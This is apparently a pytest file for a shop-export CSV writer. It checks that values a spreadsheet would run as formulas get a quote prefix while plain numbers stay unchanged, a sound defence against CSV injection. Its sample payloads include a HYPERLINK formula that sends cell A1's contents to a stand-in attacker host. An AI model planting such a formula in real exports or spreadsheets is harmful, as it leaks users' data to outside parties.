"""The one CSV writer: cells a spreadsheet would run as a formula are escaped (OWASP), numbers are not."""

import pytest

from shops.common.exports import cell, csv_lines

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', "+SUM(1,2)", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        *((formula, "'" + formula) for formula in FORMULAS),
        ("+84901234567", "'+84901234567"),  # a phone written +84… is text, not a number
        ("＝1+1", "'＝1+1"),  # full-width equals
        ("-5", "-5"),
        ("-12.5", "-12.5"),
        ("-", "-"),
        ("0912345678", "0912345678"),
        ("Nguyễn = An", "Nguyễn = An"),
        (-5, -5),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_escaped(value, written):
    assert cell(value) == written


def test_every_line_written_escapes_its_cells_and_the_header():
    lines = list(csv_lines(["=name", "phone"], [["=1+1", "+84901234567"], [-5, "-5"]]))
    assert lines == ["\ufeff'=name,phone\r\n", "'=1+1,'+84901234567\r\n", "-5,-5\r\n"]
